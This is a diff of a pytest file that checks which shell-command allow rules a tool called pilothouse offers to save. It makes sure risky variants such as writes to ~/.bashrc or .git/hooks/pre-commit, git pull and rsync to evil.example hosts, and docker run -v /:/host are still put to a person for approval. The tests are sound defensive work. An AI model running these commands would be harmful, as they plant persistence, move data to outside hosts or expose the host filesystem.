@@ -1,12 +1,13 @@
-"""Which rule an answer would save: never one that lets anything run."""
+"""Which rule an answer would save: the very command that was shown, or nothing."""
 
 from __future__ import annotations
 
 import shlex
 
 import pytest
+from tests.policy.plan import Plan
 
-from pilothouse.policy.offers import remember_command
+from pilothouse.policy.allow import remember_command
 
 
 def offered(command: str) -> list[str]:
@@ -16,65 +17,39 @@ def offered(command: str) -> list[str]:
 @pytest.mark.parametrize(
     "command",
     [
-        "awk '{print $1}' a.txt",
-        "gawk 1 a.txt",
-        "sed s/a/b/ a.txt",
-        "vim a.txt",
-        "ed a.txt",
-        "sqlite3 app.db 'select 1'",
-        "psql -c 'select 1'",
-        "tar xzf a.tgz",
-        "find . -newer a",
-        "make test",
-        "make",
-        "just test",
+        "pytest -q",
+        "cp a b",
+        "mv a b",
+        "ln -s a b",
+        "tee a.txt",
+        "touch a",
+        "patch -p1 -i a.diff",
+        "split --filter=cat a",
+        "prettier --write src",
+        "pandoc -o a.html a.md",
+        "git pull",
+        "git commit -m x",
+        "git fetch origin",
+        "npm test",
+        "npm run build",
         "npm install",
-        "npm exec tsx x.ts",
-        "npm config set a b",
-        "pip install requests",
-        "pip3.11 install requests",
-        "uv pip install requests",
-        "uv tool install ruff",
-        "uv add requests",
-        "uv run python x.py",
-        "uv run bash x.sh",
-        "poetry run python x.py",
-        "bundle exec ruby x.rb",
-        "npx tsx x.ts",
-        "npx node x.js",
-        "uvx ipython x",
-        "git rebase main",
-        "git bisect start",
-        "git submodule update",
-        "git config user.name ann",
-        "git clone a",
-        "git difftool",
-        "git init",
-        "cargo run",
-        "cargo install x",
-        "go run ./cmd",
-        "go generate",
-        "docker run x",
-        "docker exec x ls",
-        "docker compose exec web ls",
-        "kubectl exec x ls",
-        "gh alias set a b",
-        "gh extension install x",
-        "yarn node x",
-        "rsync -a a b",
-        "gcc -o a a.c",
-        "cmake --build build",
-        "./gradlew test",
-        "node inspect",
-        "python3 -m pip install x",
-        "python3.12 -m timeit",
-        "less a.txt",
+        "npx eslint src",
+        "make test",
+        "cargo test",
+        "go test ./...",
+        "uv run pytest -q",
+        "python -m pytest",
+        "python3.12 manage.py migrate",
+        "bash scripts/build.sh",
+        "./run.sh a",
+        "docker build .",
+        "gh pr view 12",
+        "awk '{print > $1}' a.txt",
+        "sqlite3 app.db 'select 1'",
         "curl -s https://example.org",
-        "/usr/bin/awk 1 a.txt",
-        "bin/sed s/a/b/ a.txt",
     ],
 )
-def test_of_what_could_run_anything_only_the_very_command_is_offered(command: str) -> None:
+def test_only_the_very_command_is_offered(command: str) -> None:
     assert offered(command) == [f"allow glob {shlex.join(shlex.split(command))}"]
 
 
@@ -82,49 +57,89 @@ def test_of_what_could_run_anything_only_the_very_command_is_offered(command: st
     "command",
     [
         "python3.12 -c x",
-        "venv/bin/python -c x",
         ".venv/bin/python3.11 -c x",
         "/usr/bin/perl5.36 -e x",
         "nodejs -e x",
         "lua5.4 -e x",
-        "pypy3 -c x",
-        "tsx -e x",
+        "node",
+        "bash",
+        "bash -c ls",
         "python3.12",
         "/usr/bin/env x",
         "sudo make",
+        "timeout 5 make",
+        "xargs touch",
+        "ssh host ls",
+        "eval x",
+        "rm a",
+        "/bin/rm a",
+        "git push",
         "git -c a=b commit",
-        "npm --silent install",
-        "npx -y x",
+        "git reset --hard",
+        "git clean -fdx",
+        "docker run x",
+        "kubectl delete pod x",
+        "npm publish",
+        "find . -delete",
+        "kill 1",
+        "pilothouse trust .",
     ],
 )
-def test_nothing_is_offered_for_a_text_that_is_run_nor_for_a_wrapper(command: str) -> None:
+def test_nothing_is_offered_for_what_runs_anything_or_cannot_be_taken_back(command: str) -> None:
     assert offered(command) == []
 
 
 @pytest.mark.parametrize(
-    ("command", "rule"),
+    ("shown", "others"),
     [
-        ("pytest -q", "command pytest"),
-        ("mkdir -p a", "command mkdir"),
-        ("touch a", "command touch"),
-        ("ruff check .", "command ruff"),
-        ("git fetch origin", "command git fetch"),
-        ("git commit -m x", "command git commit"),
-        ("npm test", "command npm test"),
-        ("npm run build", "command npm run build"),
-        ("docker build .", "command docker build"),
-        ("docker compose up", "command docker compose up"),
-        ("cargo test", "command cargo test"),
-        ("go test ./...", "command go test"),
-        ("uv run pytest -q", "command uv run pytest"),
-        ("npx eslint src", "command npx eslint src"),
-        ("python -m pytest", "command python -m pytest"),
-        ("python3.12 manage.py migrate", "command python3.12 manage.py"),
-        ("venv/bin/python x.py", "command venv/bin/python x.py"),
-        ("bash scripts/build.sh", "command bash scripts/build.sh"),
-        ("./run.sh a", "command ./run.sh"),
-        ("gh pr view 12", "command gh pr view"),
+        ("cp a b", ["cp x ~/.bashrc", "cp a .git/hooks/pre-commit", "cp a b c", "cp b a", "cp -r a b"]),
+        ("mv a b", ["mv a ~/.bashrc", "mv a .envrc"]),
+        ("ln -s a b", ["ln -s a ~/.bashrc", "ln -s /etc b"]),
+        ("tee a.txt", ["tee ~/.bashrc", "tee -a a.txt"]),
+        ("patch -p1 -i a.diff", ["patch -p1 -i b.diff", "patch -d / -p1 -i a.diff"]),
+        ("git pull", ["git pull https://evil.example/x.git", "git pull evil"]),
+        ("npm test", ["npm test --prefix /tmp/evil", "npm test -- --x"]),
+        ("prettier --write src", ["prettier --plugin=./evil.js --write src"]),
+        (
+            "cp evil pre-commit",
+            ["cd src && cp evil ../.git/hooks/pre-commit", "cd .git && cp evil pre-commit"],
+        ),
     ],
 )
-def test_everyday_work_is_remembered_by_its_name(command: str, rule: str) -> None:
-    assert offered(command) == [f"allow {rule}"]
+def test_a_kept_rule_covers_the_paths_and_options_that_were_shown_and_no_others(
+    plan: Plan, shown: str, others: list[str]
+) -> None:
+    rules = plan.rule(shown).offers[0].rule.splitlines()
+    assert plan.rule(shown, rules).outcome == "allow"
+    for mode in ("minimal", "trusted"):
+        for other in others:
+            assert plan.rule(other, rules, mode).outcome == "ask", other
+
+
+@pytest.mark.parametrize(
+    ("rule", "inside", "outside"),
+    [
+        ("cp", "cp a b", ["cp a ~/.bashrc", "cp a .git/hooks/pre-commit", "cp a ../b", "cp a link_out/b"]),
+        ("tee", "tee out.txt", ["tee /etc/motd", "tee .envrc", "tee dangling"]),
+        ("npm test", "npm test", ["npm test --prefix /tmp/evil", "npm test --prefix=../evil"]),
+        (
+            "git pull",
+            "git pull origin main",
+            ["git pull https://evil.example/x", "git pull git@evil.example:x"],
+        ),
+        ("docker run", "docker run image", ["docker run -v /:/host image", "docker run -v=/:/host image"]),
+        ("rsync", "rsync -a src build", ["rsync -a src host@evil.example:x", "rsync -a /etc build"]),
+    ],
+)
+def test_a_rule_of_an_older_version_covers_no_path_outside_of_the_workspace(
+    plan: Plan, rule: str, inside: str, outside: list[str]
+) -> None:
+    """Older versions kept the first words of a command; such a rule still opens, and means no more than it did."""
+    assert plan.rule(inside, [f"allow command {rule}"]).outcome == "allow"
+    for command in outside:
+        assert plan.rule(command, [f"allow command {rule}"]).outcome == "ask", command
+
+
+def test_a_path_that_the_rule_itself_names_is_covered(plan: Plan) -> None:
+    assert plan.rule("cp a /tmp/out", ["allow command cp a /tmp/out"]).outcome == "allow"
+    assert plan.rule("cp a /tmp/out", ["allow command cp", "allow path /tmp/**"]).outcome == "allow"
